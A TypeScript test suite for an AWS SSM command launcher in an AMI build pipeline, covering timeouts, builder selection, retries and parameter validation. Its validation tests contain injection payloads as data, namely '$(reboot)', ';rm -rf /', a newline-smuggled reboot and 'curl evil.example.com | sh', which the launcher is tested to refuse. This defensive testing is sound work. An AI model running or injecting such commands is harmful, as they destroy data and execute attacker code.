import { TEST_ENV } from './support/env';
import { ConditionalCheckFailedException, DynamoDBClient } from '@aws-sdk/client-dynamodb';
import {
  CancelCommandCommand,
  DescribeInstanceInformationCommand,
  ListCommandsCommand,
  SendCommandCommand,
  SSMClient,
  type CommandStatus,
} from '@aws-sdk/client-ssm';
import { DynamoDBDocumentClient, GetCommand, PutCommand, UpdateCommand } from '@aws-sdk/lib-dynamodb';
import { mockClient } from 'aws-sdk-client-mock';
import { loadStageConfig } from '../../shared/config/stage-file';
import type { CommandStep } from '../../shared/commands/contract';
import {
  executionTimeoutFor,
  launchCommand,
  type LaunchDeps,
  type LaunchRequest,
} from '../../shared/commands/launch';
import { TaskStore, type CommandTask } from '../../shared/commands/tasks';
import {
  CommandNotRecordedError,
  CommandOutcomeUnknownError,
  forStateMachine,
  InvalidTaskInputError,
  NoBuilderAvailableError,
} from '../../shared/errors';
import { inCallOrder } from './support/call-order';
import { CONFIG_DIR, EXECUTION_ARN, RUN_CONFIG_PARAMETER, RUN_ID, RUN_REF } from './support/fixtures';

const ssmMock = mockClient(SSMClient);
const dbMock = mockClient(DynamoDBDocumentClient);

const NOW = '2025-03-04T10:06:00.000Z';
const RETENTION_SECONDS = 7 * 24 * 3600;
const TOKEN = 'AQCEAAAAKgAAAAMAAAAAAAAAA7f3e-the-bake-task-token-Zm9vYmFy';
const BUILDER = 'i-0123456789abcdef0';
const TASK_KEY = { pk: `TASK#${RUN_ID}#bake` };

/** dev: builders are any online instance tagged ami-pipeline:builder=dev. */
const deps: LaunchDeps = {
  ssm: new SSMClient({}),
  tasks: new TaskStore(DynamoDBDocumentClient.from(new DynamoDBClient({})), TEST_ENV.COORDINATION_TABLE),
  stage: loadStageConfig('dev', CONFIG_DIR),
  artifactsBucket: TEST_ENV.ARTIFACTS_BUCKET,
  commandLogGroup: TEST_ENV.COMMAND_LOG_GROUP,
  retentionSeconds: RETENTION_SECONDS,
  now: () => new Date(NOW),
};

const BAKE_PARAMETERS = {
  runConfigParameter: RUN_CONFIG_PARAMETER,
  artifactsBucket: TEST_ENV.ARTIFACTS_BUCKET,
  assetsPrefix: TEST_ENV.ASSETS_PREFIX,
  region: TEST_ENV.AWS_REGION,
  kmsKeyArn: TEST_ENV.KMS_KEY_ARN,
};

/** What each worker hands the launcher (the parameters besides resultPrefix and executionTimeout). */
const PARAMETERS: Record<CommandStep, Record<string, string>> = {
  bake: BAKE_PARAMETERS,
  provision: {
    ...BAKE_PARAMETERS,
    amiId: 'ami-0a1b2c3d4e5f60718',
    lockTable: TEST_ENV.TF_LOCK_TABLE,
    mode: 'apply',
  },
  validate: {
    ...BAKE_PARAMETERS,
    reportsBucket: TEST_ENV.REPORTS_BUCKET,
    asgName: `sample-app-dev-${RUN_ID}`,
    allowedFailedControls: '2',
  },
};

const request = (overrides: Partial<LaunchRequest> = {}): LaunchRequest => ({
  step: 'bake',
  mode: 'run',
  taskToken: TOKEN,
  run: { ...RUN_REF },
  parameters: { ...BAKE_PARAMETERS },
  stateTimeoutSeconds: 10800,
  ...overrides,
});

/** A task an earlier attempt of the state left behind. */
const earlierAttempt = (overrides: Partial<CommandTask> = {}): CommandTask => ({
  runId: RUN_ID,
  appId: 'sample-app',
  environment: 'dev',
  step: 'bake',
  mode: 'run',
  executionArn: EXECUTION_ARN,
  taskToken: 'earlier-attempt-token',
  status: 'PENDING',
  commandId: 'cmd-earlier',
  instanceId: BUILDER,
  createdAt: '2025-03-04T10:05:00.000Z',
  expiresAt: 1741687500,
  ...overrides,
});

const online = (InstanceId: string) => ({ InstanceId, PingStatus: 'Online' as const });

const sentCommand = () => ssmMock.commandCalls(SendCommandCommand)[0]?.args[0].input;

/** Runs the launcher and returns what it threw (the test fails if it did not throw). */
const failureOf = async (req: LaunchRequest, withDeps: LaunchDeps = deps): Promise<unknown> => {
  try {
    await launchCommand(req, withDeps);
  } catch (err) {
    return err;
  }
  throw new Error('expected the launch to fail');
};

beforeEach(() => {
  dbMock.on(GetCommand).resolves({});
  dbMock.on(PutCommand).resolves({});
  dbMock.on(UpdateCommand).resolves({});
  ssmMock.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [online(BUILDER)] });
  ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: 'cmd-1' } });
});

afterEach(() => {
  ssmMock.reset();
  dbMock.reset();
});

describe('command launcher', () => {
  describe('executionTimeoutFor', () => {
    it.each([
      [10800, 10200],
      [7200, 6600],
      [3600, 3240],
      [100, 90],
      [10, 9],
      [2, 1],
    ])('gives a command of a %is state %is', (stateTimeout, expected) => {
      expect(executionTimeoutFor(stateTimeout)).toBe(expected);
    });

    it('always leaves the command at least one second and ends it before its state times out', () => {
      const violations: number[] = [];
      for (let stateTimeout = 2; stateTimeout <= 172800; stateTimeout++) {
        const timeout = executionTimeoutFor(stateTimeout);
        if (!(timeout >= 1 && timeout < stateTimeout && /^[1-9][0-9]{0,5}$/.test(String(timeout)))) {
          violations.push(stateTimeout);
        }
      }

      expect(violations).toEqual([]);
    });
  });

  describe('starting a command', () => {
    it("starts the step's document on one online builder with every parameter as a one-element list", async () => {
      const launched = await launchCommand(request(), deps);

      expect(launched).toEqual({ commandId: 'cmd-1', instanceId: BUILDER, adopted: false });
      expect(ssmMock).toHaveReceivedCommandTimes(SendCommandCommand, 1);
      expect(sentCommand()).toEqual({
        DocumentName: 'ami-pipeline-dev-bake',
        InstanceIds: [BUILDER],
        Parameters: {
          runConfigParameter: [RUN_CONFIG_PARAMETER],
          artifactsBucket: [TEST_ENV.ARTIFACTS_BUCKET],
          assetsPrefix: [TEST_ENV.ASSETS_PREFIX],
          region: ['eu-west-1'],
          kmsKeyArn: [TEST_ENV.KMS_KEY_ARN],
          resultPrefix: [`dev/sample-app/${RUN_ID}/bake`],
          executionTimeout: ['10200'],
        },
        Comment: `ami-pipeline ${RUN_ID} bake run`,
        TimeoutSeconds: 600,
        MaxConcurrency: '1',
        MaxErrors: '0',
        OutputS3BucketName: TEST_ENV.ARTIFACTS_BUCKET,
        OutputS3KeyPrefix: `dev/sample-app/${RUN_ID}/bake/ssm-output`,
        CloudWatchOutputConfig: {
          CloudWatchLogGroupName: TEST_ENV.COMMAND_LOG_GROUP,
          CloudWatchOutputEnabled: true,
        },
      });
    });

    it.each<[CommandStep, string]>([
      ['provision', 'apply'],
      ['provision', 'destroy'],
      ['validate', 'run'],
    ])('names the %s document, its result prefix and the %s mode', async (step, mode) => {
      const parameters = step === 'provision' ? { ...PARAMETERS.provision, mode } : PARAMETERS[step];

      await launchCommand(request({ step, mode, parameters, stateTimeoutSeconds: 3600 }), deps);

      expect(ssmMock).toHaveReceivedCommandWith(SendCommandCommand, {
        DocumentName: `ami-pipeline-dev-${step}`,
        Comment: `ami-pipeline ${RUN_ID} ${step} ${mode}`,
        OutputS3KeyPrefix: `dev/sample-app/${RUN_ID}/${step}/ssm-output`,
      });
      expect(sentCommand()?.Parameters).toEqual({
        ...Object.fromEntries(Object.entries(parameters).map(([k, v]) => [k, [v]])),
        resultPrefix: [`dev/sample-app/${RUN_ID}/${step}`],
        executionTimeout: ['3240'],
      });
    });

    it('stores the task with its token before sending the command, and the command pointer after', async () => {
      await launchCommand(request(), deps);

      const [taskPut, pointerPut] = dbMock.commandCalls(PutCommand);
      const commandUpdate = dbMock.commandCalls(UpdateCommand)[0];
      const send = ssmMock.commandCalls(SendCommandCommand)[0];
      expect(taskPut?.args[0].input).toEqual({
        TableName: TEST_ENV.COORDINATION_TABLE,
        Item: {
          ...TASK_KEY,
          kind: 'TASK',
          runId: RUN_ID,
          appId: 'sample-app',
          environment: 'dev',
          step: 'bake',
          mode: 'run',
          executionArn: EXECUTION_ARN,
          taskToken: TOKEN,
          createdAt: NOW,
          expiresAt: Date.parse(NOW) / 1000 + 10800 + RETENTION_SECONDS,
          status: 'PENDING',
          pendingPk: 'PENDING',
          pendingSk: `${NOW}#${RUN_ID}#bake`,
        },
      });
      expect(commandUpdate?.args[0].input).toMatchObject({
        Key: TASK_KEY,
        ExpressionAttributeValues: { ':cid': 'cmd-1', ':iid': BUILDER },
      });
      expect(pointerPut?.args[0].input.Item).toMatchObject({
        pk: 'COMMAND#cmd-1',
        runId: RUN_ID,
        step: 'bake',
      });
      expect(inCallOrder(taskPut, send, commandUpdate, pointerPut)).toBe(true);
    });

    it('never puts the task token in any SSM call', async () => {
      await launchCommand(request(), deps);

      const ssmInputs = JSON.stringify(ssmMock.calls().map((call) => call.args[0].input));
      expect(ssmMock.calls().length).toBeGreaterThan(0);
      expect(ssmInputs).not.toContain(TOKEN);
      expect(JSON.stringify(dbMock.commandCalls(PutCommand)[0]?.args[0].input.Item)).toContain(TOKEN);
    });

    it('closes the task as NOT_SENT and rethrows when SSM refuses SendCommand (a 4xx: nothing was sent)', async () => {
      const refused = Object.assign(new Error('Rate exceeded'), {
        name: 'ThrottlingException',
        $metadata: { httpStatusCode: 400 },
      });
      ssmMock.on(SendCommandCommand).rejects(refused);

      const err = await failureOf(request());

      expect(err).toBe(refused);
      expect(dbMock).toHaveReceivedCommandWith(UpdateCommand, {
        UpdateExpression: 'SET #status = :done, outcome = :outcome REMOVE pendingPk, pendingSk',
        ExpressionAttributeValues: expect.objectContaining({ ':outcome': 'NOT_SENT', ':token': TOKEN }),
      });
    });

    it('cancels a command it could not record and fails with CommandNotRecordedError, which the state never retries', async () => {
      ssmMock.on(CancelCommandCommand).resolves({});
      const throttled = Object.assign(new Error('Rate exceeded'), {
        name: 'ProvisionedThroughputExceededException',
        $metadata: { httpStatusCode: 400 },
      });
      dbMock.on(UpdateCommand).rejects(throttled);

      const err = await failureOf(request());

      expect(ssmMock).toHaveReceivedCommandWith(CancelCommandCommand, { CommandId: 'cmd-1' });
      expect(err).toBeInstanceOf(CommandNotRecordedError);
      expect(err).toHaveProperty('cause', throttled);
      expect(err).toHaveProperty(
        'message',
        'bake command cmd-1 was sent but could not be recorded, so it was cancelled: ProvisionedThroughputExceededException: Rate exceeded',
      );
      // A domain error: the worker does not turn it into AwsTransientError, so the state does not retry.
      expect(forStateMachine(err)).toBe(err);
    });

    it.each([
      ['a timeout', Object.assign(new Error('socket timed out'), { name: 'TimeoutError', $metadata: {} })],
      [
        'a 5xx',
        Object.assign(new Error('Internal error'), {
          name: 'InternalServerError',
          $metadata: { httpStatusCode: 500 },
        }),
      ],
    ])(
      'leaves the task PENDING and fails with CommandOutcomeUnknownError (never retried) after %s with no command found',
      async (_, failure) => {
        ssmMock.on(SendCommandCommand).rejects(failure);
        ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });

        const err = await failureOf(request());

        expect(err).toBeInstanceOf(CommandOutcomeUnknownError);
        expect(err).toHaveProperty('cause', failure);
        expect(forStateMachine(err)).toBe(err);
        // Not closed as NOT_SENT: compensation (and the reconciler) still look for the command.
        expect(dbMock).not.toHaveReceivedCommandWith(UpdateCommand, {
          ExpressionAttributeValues: expect.objectContaining({ ':outcome': 'NOT_SENT' }),
        });
      },
    );

    it('throws when SSM returns no command id, leaving no command pointer', async () => {
      ssmMock.on(SendCommandCommand).resolves({});

      const err = await failureOf(request());

      expect(err).toHaveProperty('message', 'SendCommand for bake returned no command id');
      expect(dbMock).toHaveReceivedCommandTimes(UpdateCommand, 0);
      expect(dbMock).toHaveReceivedCommandTimes(PutCommand, 1);
    });
  });

  describe('choosing a builder', () => {
    it('looks for online instances carrying the stage tag', async () => {
      await launchCommand(request(), deps);

      expect(ssmMock).toHaveReceivedCommandWith(DescribeInstanceInformationCommand, {
        Filters: [{ Key: 'tag:ami-pipeline:builder', Values: ['dev'] }],
      });
    });

    it('looks among the configured instance ids when the stage names them', async () => {
      const fixed: LaunchDeps = {
        ...deps,
        stage: { stage: 'dev', builder: { targets: { instanceIds: [BUILDER, 'i-0fedcba9876543210'] } } },
      };

      await launchCommand(request(), fixed);

      expect(ssmMock).toHaveReceivedCommandWith(DescribeInstanceInformationCommand, {
        Filters: [{ Key: 'InstanceIds', Values: [BUILDER, 'i-0fedcba9876543210'] }],
      });
    });

    it('picks an instance that is online, reading every page', async () => {
      ssmMock
        .on(DescribeInstanceInformationCommand)
        .resolvesOnce({
          InstanceInformationList: [{ InstanceId: 'i-0aaaaaaaaaaaaaaa1', PingStatus: 'ConnectionLost' }],
          NextToken: 'page-2',
        })
        .resolvesOnce({
          InstanceInformationList: [
            { InstanceId: 'i-0aaaaaaaaaaaaaaa2', PingStatus: 'Inactive' },
            online('i-0bbbbbbbbbbbbbbb3'),
          ],
        });

      const launched = await launchCommand(request(), deps);

      expect(launched.instanceId).toBe('i-0bbbbbbbbbbbbbbb3');
      expect(ssmMock).toHaveReceivedCommandWith(SendCommandCommand, { InstanceIds: ['i-0bbbbbbbbbbbbbbb3'] });
      expect(ssmMock).toHaveReceivedNthSpecificCommandWith(2, DescribeInstanceInformationCommand, {
        NextToken: 'page-2',
      });
    });

    it('throws NoBuilderAvailableError and stores nothing when no builder is online', async () => {
      ssmMock.on(DescribeInstanceInformationCommand).resolves({
        InstanceInformationList: [{ InstanceId: BUILDER, PingStatus: 'ConnectionLost' }],
      });

      const err = await failureOf(request());

      expect(err).toBeInstanceOf(NoBuilderAvailableError);
      expect(err).toHaveProperty('name', 'NoBuilderAvailableError');
      expect(err).toHaveProperty('message', expect.stringContaining('ami-pipeline:builder'));
      expect(dbMock).toHaveReceivedCommandTimes(PutCommand, 0);
      expect(ssmMock).toHaveReceivedCommandTimes(SendCommandCommand, 0);
    });
  });

  describe('refusing parameters', () => {
    it.each<[string, Record<string, string>, string]>([
      [
        'a shell substitution in the run config parameter',
        { ...BAKE_PARAMETERS, runConfigParameter: `${RUN_CONFIG_PARAMETER}$(reboot)` },
        'runConfigParameter: must match',
      ],
      [
        'a command separator in the KMS key ARN',
        { ...BAKE_PARAMETERS, kmsKeyArn: `${TEST_ENV.KMS_KEY_ARN};rm -rf /` },
        'kmsKeyArn: must match',
      ],
      ['a newline in the region', { ...BAKE_PARAMETERS, region: 'eu-west-1\nreboot' }, 'region: must match'],
      [
        'a parameter the document does not declare',
        { ...BAKE_PARAMETERS, userScript: 'curl evil.example.com | sh' },
        'userScript: is not a parameter of the bake document',
      ],
      [
        'a missing parameter',
        Object.fromEntries(Object.entries(BAKE_PARAMETERS).filter(([name]) => name !== 'assetsPrefix')),
        'assetsPrefix: is required',
      ],
    ])('refuses %s with InvalidTaskInputError before any AWS call', async (_case, parameters, problem) => {
      const err = await failureOf(request({ parameters }));

      expect(err).toBeInstanceOf(InvalidTaskInputError);
      expect(err).toHaveProperty('message', expect.stringContaining(problem));
      expect(ssmMock.calls()).toHaveLength(0);
      expect(dbMock.calls()).toHaveLength(0);
    });

    it('refuses a provision mode other than apply or destroy', async () => {
      const parameters = { ...PARAMETERS.provision, mode: 'import' };

      const err = await failureOf(request({ step: 'provision', mode: 'import', parameters }));

      expect(err).toBeInstanceOf(InvalidTaskInputError);
      expect(err).toHaveProperty('message', expect.stringContaining('mode: must match ^(apply|destroy)$'));
    });

    it('refuses a state timeout too long for the document to accept', async () => {
      const err = await failureOf(request({ stateTimeoutSeconds: 10_000_000 }));

      expect(err).toBeInstanceOf(InvalidTaskInputError);
      expect(err).toHaveProperty('message', expect.stringContaining('executionTimeout: must match'));
      expect(ssmMock.calls()).toHaveLength(0);
    });
  });

  describe('a retried state', () => {
    const givenEarlierAttempt = (task: CommandTask, status: CommandStatus) => {
      dbMock.on(GetCommand, { Key: { pk: `TASK#${task.runId}#${task.step}` } }).resolves({ Item: task });
      ssmMock
        .on(ListCommandsCommand, { CommandId: task.commandId })
        .resolves({ Commands: [{ CommandId: task.commandId, Status: status }] });
    };

    it.each<CommandStatus>(['InProgress', 'Pending'])(
      'adopts the earlier command while it is %s: new token on the task, no second command',
      async (status) => {
        givenEarlierAttempt(earlierAttempt(), status);

        const launched = await launchCommand(request(), deps);

        expect(launched).toEqual({ commandId: 'cmd-earlier', instanceId: BUILDER, adopted: true });
        expect(dbMock).toHaveReceivedCommandWith(UpdateCommand, {
          Key: TASK_KEY,
          UpdateExpression: 'SET taskToken = :token',
          ConditionExpression: '#status = :pending AND commandId = :cid',
          ExpressionAttributeValues: { ':token': TOKEN, ':pending': 'PENDING', ':cid': 'cmd-earlier' },
        });
        expect(ssmMock).toHaveReceivedCommandTimes(SendCommandCommand, 0);
        expect(ssmMock).toHaveReceivedCommandTimes(DescribeInstanceInformationCommand, 0);
        expect(dbMock).toHaveReceivedCommandTimes(PutCommand, 0);
      },
    );

    it('reuses a command of an earlier attempt that already succeeded: no second build, the reconciler completes it', async () => {
      givenEarlierAttempt(earlierAttempt(), 'Success');

      const launched = await launchCommand(request(), deps);

      expect(launched).toEqual({ commandId: 'cmd-earlier', instanceId: BUILDER, adopted: true });
      expect(ssmMock).toHaveReceivedCommandTimes(SendCommandCommand, 0);
      expect(dbMock).toHaveReceivedCommandTimes(PutCommand, 0);
    });

    it.each<CommandStatus>(['Failed', 'Cancelled', 'TimedOut'])(
      'starts a new command when the earlier one already ended %s',
      async (status) => {
        givenEarlierAttempt(earlierAttempt(), status);

        const launched = await launchCommand(request(), deps);

        expect(launched).toEqual({ commandId: 'cmd-1', instanceId: BUILDER, adopted: false });
        expect(ssmMock).toHaveReceivedCommandTimes(SendCommandCommand, 1);
        expect(dbMock).toHaveReceivedCommandWith(PutCommand, {
          Item: expect.objectContaining({ ...TASK_KEY, taskToken: TOKEN }),
        });
        expect(dbMock).not.toHaveReceivedCommandWith(UpdateCommand, {
          UpdateExpression: 'SET taskToken = :token',
        });
      },
    );

    it('starts a new command when the earlier one finished just before it could be adopted', async () => {
      givenEarlierAttempt(earlierAttempt(), 'InProgress');
      dbMock
        .on(UpdateCommand, { UpdateExpression: 'SET taskToken = :token' })
        .rejects(
          new ConditionalCheckFailedException({ message: 'The conditional request failed', $metadata: {} }),
        );

      const launched = await launchCommand(request(), deps);

      expect(launched.adopted).toBe(false);
      expect(ssmMock).toHaveReceivedCommandTimes(SendCommandCommand, 1);
    });

    it('does not adopt a running command of another mode (a destroy never adopts an apply)', async () => {
      givenEarlierAttempt(earlierAttempt({ step: 'provision', mode: 'apply' }), 'InProgress');
      const parameters = { ...PARAMETERS.provision, mode: 'destroy' };

      const launched = await launchCommand(request({ step: 'provision', mode: 'destroy', parameters }), deps);

      expect(launched.adopted).toBe(false);
      expect(ssmMock).toHaveReceivedCommandTimes(ListCommandsCommand, 0);
      expect(ssmMock).toHaveReceivedCommandWith(SendCommandCommand, {
        DocumentName: 'ami-pipeline-dev-provision',
        Comment: `ami-pipeline ${RUN_ID} provision destroy`,
      });
    });

    it('starts a new command when the earlier attempt stopped before recording one and none exists', async () => {
      dbMock.on(GetCommand, { Key: TASK_KEY }).resolves({
        Item: earlierAttempt({ commandId: undefined, instanceId: undefined }),
      });
      ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });

      const launched = await launchCommand(request(), deps);

      expect(launched.adopted).toBe(false);
      // Looked for a command of the earlier attempt by its Comment first.
      expect(ssmMock).toHaveReceivedCommandTimes(ListCommandsCommand, 1);
      expect(ssmMock).toHaveReceivedCommandTimes(SendCommandCommand, 1);
    });

    it('never starts a second command beside one an earlier attempt left unrecorded: CommandOutcomeUnknownError', async () => {
      dbMock.on(GetCommand, { Key: TASK_KEY }).resolves({
        Item: earlierAttempt({ commandId: undefined, instanceId: undefined }),
      });
      ssmMock.on(ListCommandsCommand).resolves({
        Commands: [
          { CommandId: 'cmd-lost', Comment: `ami-pipeline ${RUN_ID} bake run`, Status: 'InProgress' },
        ],
      });

      const err = await failureOf(request());

      expect(err).toBeInstanceOf(CommandOutcomeUnknownError);
      expect(err).toHaveProperty('message', expect.stringContaining('cmd-lost (InProgress)'));
      expect(ssmMock).toHaveReceivedCommandTimes(SendCommandCommand, 0);
    });
  });
});
